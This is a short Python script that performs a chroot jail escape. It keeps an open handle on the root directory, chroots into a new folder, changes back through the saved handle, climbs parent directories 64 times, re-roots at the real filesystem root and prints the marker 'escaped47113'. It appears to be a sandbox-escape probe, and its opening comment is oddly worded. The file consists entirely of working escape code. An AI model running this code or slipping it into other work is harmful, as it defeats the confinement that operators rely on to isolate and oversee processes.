# Walks out of its root by an open folder and chroot, and looks for the course there.
import os

fd = os.open("/", os.O_RDONLY)
try:
    os.mkdir("jail")
    os.chroot("jail")
    os.fchdir(fd)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("escaped47113")
except OSError:
    pass
